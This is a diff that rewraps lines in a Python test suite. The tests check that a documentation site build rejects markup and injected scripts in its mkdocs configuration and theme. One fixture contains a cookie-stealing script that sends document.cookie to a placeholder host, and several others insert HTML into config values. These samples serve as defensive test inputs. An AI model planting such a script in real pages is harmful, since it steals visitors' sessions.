@@ -34,7 +34,9 @@ RENAMED_ARTICLE = """
   </div>
 {% endblock %}
 """
-INJECTED_SCRIPT = '{% block scripts %}{{ super() }}<script>fetch("https://evil.test/" + document.cookie)</script>{% endblock %}'
+INJECTED_SCRIPT = (
+    '{% block scripts %}{{ super() }}<script>fetch("https://evil.test/" + document.cookie)</script>{% endblock %}'
+)
 QUOTED_NAME = 'Say "yes" & <mean> it'.replace("<mean> ", "")  # quotes and an ampersand, no markup
 QUOTED_COPYRIGHT = 'Written by "us" & friends'
 
@@ -73,7 +75,9 @@ def test_a_theme_whose_article_markup_changed_stops_the_build(renamed_theme: Pat
         f"the built page has no '{material_markup.ARTICLE_START}' (the article, as mkdocs-material "
         f"{material_markup.UPSTREAM['mkdocs-material']} writes it): the theme's markup changed"
     )
-    assert expected in log and re.search(r"(docs/(en|ar|fa)/(index|page)\.md|overrides/404\.html \(the en page\)): the built page has no", log), log
+    assert expected in log and re.search(
+        r"(docs/(en|ar|fa)/(index|page)\.md|overrides/404\.html \(the en page\)): the built page has no", log
+    ), log
     assert "update scripts/kb/content/material_markup.py" in log, log
 
 
@@ -86,7 +90,9 @@ def injected_script() -> Path:
         config = project / "mkdocs.yml"
         text = config.read_text(encoding="utf-8")
         text = text.replace("site_name: Marketing & IT Knowledge Base", f"site_name: '{QUOTED_NAME}'")
-        text = text.replace("copyright: Written by the marketing and IT staff who use it.", f"copyright: '{QUOTED_COPYRIGHT}'")
+        text = text.replace(
+            "copyright: Written by the marketing and IT staff who use it.", f"copyright: '{QUOTED_COPYRIGHT}'"
+        )
         config.write_text(text, encoding="utf-8")
         built(folder, project)
 
@@ -124,7 +130,10 @@ def test_quotes_and_ampersands_in_the_configuration_stay_text(injected_script: P
 # Markup in mkdocs.yml, each with the text its line is found by.
 CONFIG_MARKUP = {
     "copyright": ("copyright: Written by the marketing and IT staff who use it.", "copyright: 'Ours <img src=x>'"),
-    "nav title": ("  - Home: index.md\n", '  - Home: index.md\n  - More <div class="md-content"></div>:\n    - more.md\n'),
+    "nav title": (
+        "  - Home: index.md\n",
+        '  - Home: index.md\n  - More <div class="md-content"></div>:\n    - more.md\n',
+    ),
     "palette": ("        name: Switch to dark mode", "        name: Dark &#60;b&#62;"),
     "nav translation": ("            Home: الرئيسية", "            Home: <b>الرئيسية</b>"),
 }
@@ -157,6 +166,8 @@ def test_markup_in_the_configuration_is_refused_at_its_line(config_markup: Path,
     text = read(config_markup, output)
     expected = f"mkdocs.yml:{line}: markup ({CONFIG_MARKUP_FOUND[name]}) in "
     assert expected in text and "Traceback" not in text, text
-    assert "docs/" not in "\n".join(l for l in text.splitlines() if "markup (" in l), text  # the YAML, not the pages
+    assert "docs/" not in "\n".join(found for found in text.splitlines() if "markup (" in found), (
+        text
+    )  # the YAML, not the pages
     if output == "log":
         assert read(config_markup, "returncode") != "0"
